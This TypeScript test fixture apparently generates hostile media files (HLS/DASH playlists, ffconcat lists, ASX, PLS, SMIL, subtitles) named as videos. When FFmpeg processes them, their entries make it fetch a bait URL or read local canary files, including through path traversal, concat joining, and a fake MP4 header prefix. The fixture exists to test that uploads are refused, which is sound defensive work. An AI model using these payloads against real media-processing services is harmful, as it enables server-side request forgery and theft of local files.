// Playlists, lists of files to join and their kin, under the names of videos: files that FFmpeg, left alone, reads by opening what they name.
import { box, joined, u32 } from './bytes.ts'
import { type Bait, file, type HostileFile, refused } from './file.ts'

export interface List {
  readonly name: string
  readonly content: string
  /** FFmpeg's name of the format, and what it must be told to follow everything. */
  readonly follow?: { readonly format: string; readonly options: Readonly<Record<string, string>> }
  readonly reaches?: 'address' | 'file'
}

const hls = { format: 'hls', options: { allowed_extensions: 'ALL', allowed_segment_extensions: 'ALL', extension_picky: '0' } }
const concat = { format: 'concat', options: { safe: '0' } }
const dash = { format: 'dash', options: {} }

export function lists({ url, canary }: Bait): List[] {
  const playlist = (...lines: string[]) => ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:5', ...lines, '#EXT-X-ENDLIST', ''].join('\n')
  const manifest = (inside: string) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="64" height="48">${inside}</Representation></AdaptationSet></Period></MPD>`
  return [
    { name: 'playlist of an address', content: playlist('#EXTINF:5,', `${url}/hls.ts`), follow: hls, reaches: 'address' },
    { name: 'playlist of a file', content: playlist('#EXTINF:5,', `file://${canary}`), follow: hls, reaches: 'file' },
    { name: 'playlist of a path', content: playlist('#EXTINF:5,', canary), follow: hls, reaches: 'file' },
    { name: 'playlist of playlists', content: `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/hls.m3u8\n`, follow: hls, reaches: 'address' },
    {
      name: 'playlist with a key',
      content: playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${url}/hls-key"`, '#EXTINF:5,', `${url}/hls.ts`),
      follow: hls,
      reaches: 'address',
    },
    {
      name: 'playlist with a beginning',
      content: playlist(`#EXT-X-MAP:URI="${url}/hls-map"`, '#EXTINF:5,', `${url}/hls.mp4`),
      follow: hls,
      reaches: 'address',
    },
    { name: 'playlist that joins an address to a file', content: playlist('#EXTINF:5,', `concat:${url}/hls|file://${canary}`), follow: hls },
    { name: 'playlist of a part of a file', content: playlist('#EXTINF:5,', `subfile,,start,0,end,64,,:${canary}`), follow: hls },
    { name: 'list of files to join', content: `ffconcat version 1.0\nfile '${canary}'\n`, follow: concat, reaches: 'file' },
    { name: 'list of addresses to join', content: `ffconcat version 1.0\nfile '${url}/concat.mp4'\n`, follow: concat, reaches: 'address' },
    { name: 'list of files above it', content: "ffconcat version 1.0\nfile '../../../canary'\n" },
    {
      name: 'manifest of an address',
      content: manifest(`<BaseURL>${url}/dash.mp4</BaseURL><SegmentBase indexRange="0-100"/>`),
      follow: dash,
      reaches: 'address',
    },
    { name: 'manifest of a file', content: manifest(`<BaseURL>${canary}</BaseURL><SegmentBase indexRange="0-100"/>`) },
    {
      name: 'description of a session',
      content: 'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
    },
    { name: 'windows playlist', content: `<asx version="3.0"><entry><ref href="${url}/asx"/></entry></asx>` },
    { name: 'pls', content: `[playlist]\nFile1=${url}/pls\nNumberOfEntries=1\n` },
    { name: 'smil', content: `<smil><body><video src="${url}/smil"/></body></smil>` },
    {
      name: 'xspf',
      content: `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>${url}/xspf</location></track></trackList></playlist>`,
    },
    { name: 'metadata of ffmpeg', content: `;FFMETADATA1\ntitle=${canary}\n` },
    { name: 'subtitles', content: `1\n00:00:00,000 --> 00:00:05,000\n<img src="${url}/srt">\n` },
  ]
}

export function listFiles(bait: Bait): HostileFile[] {
  return lists(bait).flatMap(({ name, content }) => [
    ...['.mp4', '.mkv', '.mov', '.webm', ''].map((ending) => file(`${name} as a${ending}`, Buffer.from(content), ['source_not_media'])),
    // The signature of an MP4 before it; to FFmpeg, not to whoever looks only at the beginning, that is still what it is.
    file(`${name} behind the beginning of an mp4.mp4`, joined(box('ftyp', joined('isom', u32(512), 'isomiso2')), content), refused),
    file(`${name} in an mp4.mp4`, joined(box('ftyp', joined('isom', u32(512), 'isomiso2')), box('moov', Buffer.from(content))), refused),
  ])
}
